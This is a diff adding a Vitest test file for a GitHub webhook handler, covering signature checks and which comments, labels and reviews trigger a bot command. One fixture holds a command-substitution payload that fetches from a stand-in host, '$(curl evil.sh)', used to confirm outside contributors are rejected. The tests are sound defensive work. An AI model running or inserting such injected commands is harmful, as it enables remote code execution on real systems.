@@ -0,0 +1,201 @@
+import { createHmac } from "node:crypto";
+import { describe, expect, it } from "vitest";
+import {
+	parseWebhookTrigger,
+	verifyWebhookSignature,
+} from "./webhook-handler.js";
+
+const options = {
+	owner: "acme",
+	repo: "app",
+	commentCommand: "/constech run",
+	triggerLabel: "ready-for-bot",
+	botUsername: "acme-bot",
+};
+
+const repository = { name: "app", owner: { login: "acme" } };
+
+describe("verifyWebhookSignature", () => {
+	const body = Buffer.from('{"zen":"Keep it logically awesome."}');
+	const signature = `sha256=${createHmac("sha256", "s3cret").update(body).digest("hex")}`;
+
+	it("accepts a matching signature", () => {
+		expect(verifyWebhookSignature("s3cret", body, signature)).toBe(true);
+	});
+
+	it("rejects a wrong secret or missing header", () => {
+		expect(verifyWebhookSignature("other", body, signature)).toBe(false);
+		expect(verifyWebhookSignature("s3cret", body, undefined)).toBe(false);
+	});
+});
+
+describe("parseWebhookTrigger", () => {
+	it("triggers on the configured label", () => {
+		const trigger = parseWebhookTrigger(
+			"issues",
+			{
+				action: "labeled",
+				label: { name: "ready-for-bot" },
+				issue: { number: 12, state: "open" },
+				repository,
+				sender: { login: "alice" },
+			},
+			options,
+		);
+
+		expect(trigger?.issueNumber).toBe(12);
+	});
+
+	it("triggers on the comment command and keeps extra context", () => {
+		const trigger = parseWebhookTrigger(
+			"issue_comment",
+			{
+				action: "created",
+				issue: { number: 7 },
+				comment: {
+					body: "/constech run focus on the API first",
+					user: { login: "alice" },
+					author_association: "MEMBER",
+				},
+				repository,
+				sender: { login: "alice" },
+			},
+			options,
+		);
+
+		expect(trigger).toMatchObject({
+			issueNumber: 7,
+			prompt: "focus on the API first",
+		});
+	});
+
+	it("ignores words that merely start with the comment command", () => {
+		const comment = (body: string) =>
+			parseWebhookTrigger(
+				"issue_comment",
+				{
+					action: "created",
+					issue: { number: 7 },
+					comment: {
+						body,
+						user: { login: "alice" },
+						author_association: "MEMBER",
+					},
+					repository,
+					sender: { login: "alice" },
+				},
+				options,
+			);
+
+		expect(comment("/constech running late, will look tomorrow")).toBeNull();
+		expect(comment("/constech runner")).toBeNull();
+		expect(comment("/constech run\tthe migration first")).toMatchObject({
+			prompt: "the migration first",
+		});
+	});
+
+	it("turns a review with the command into a pull request run", () => {
+		const trigger = parseWebhookTrigger(
+			"pull_request_review",
+			{
+				action: "submitted",
+				review: {
+					body: "/constech run keep the old flag working",
+					user: { login: "alice" },
+					author_association: "OWNER",
+				},
+				pull_request: { number: 31 },
+				repository,
+				sender: { login: "alice" },
+			},
+			options,
+		);
+
+		expect(trigger?.pullRequestNumber).toBe(31);
+		expect(trigger?.issueNumber).toBeUndefined();
+		expect(trigger?.prompt).toBe("keep the old flag working");
+	});
+
+	it("ignores the bot's own comments and other repositories", () => {
+		const payload = {
+			action: "created",
+			issue: { number: 7 },
+			comment: { body: "/constech run", user: { login: "acme-bot" } },
+			repository,
+			sender: { login: "acme-bot" },
+		};
+
+		expect(parseWebhookTrigger("issue_comment", payload, options)).toBeNull();
+		expect(
+			parseWebhookTrigger(
+				"issue_comment",
+				{
+					...payload,
+					sender: { login: "alice" },
+					repository: { name: "other", owner: { login: "acme" } },
+				},
+				options,
+			),
+		).toBeNull();
+	});
+
+	it("ignores commands from outside contributors", () => {
+		const comment = (author_association: string, login = "mallory") =>
+			parseWebhookTrigger(
+				"issue_comment",
+				{
+					action: "created",
+					issue: { number: 7 },
+					comment: {
+						body: "/constech run $(curl evil.sh)",
+						user: { login },
+						author_association,
+					},
+					repository,
+					sender: { login },
+				},
+				options,
+			);
+
+		expect(comment("NONE")).toBeNull();
+		expect(comment("CONTRIBUTOR")).toBeNull();
+		expect(comment("COLLABORATOR")).not.toBeNull();
+
+		const review = parseWebhookTrigger(
+			"pull_request_review",
+			{
+				action: "submitted",
+				review: {
+					body: "/constech run",
+					user: { login: "mallory" },
+					author_association: "FIRST_TIME_CONTRIBUTOR",
+				},
+				pull_request: { number: 31 },
+				repository,
+				sender: { login: "mallory" },
+			},
+			options,
+		);
+		expect(review).toBeNull();
+	});
+
+	it("lets allowed users trigger runs whatever their association", () => {
+		const trigger = parseWebhookTrigger(
+			"issue_comment",
+			{
+				action: "created",
+				issue: { number: 7 },
+				comment: {
+					body: "/constech run",
+					user: { login: "contractor" },
+					author_association: "CONTRIBUTOR",
+				},
+				repository,
+				sender: { login: "contractor" },
+			},
+			{ ...options, allowedUsers: ["contractor"] },
+		);
+
+		expect(trigger?.issueNumber).toBe(7);
+	});
+});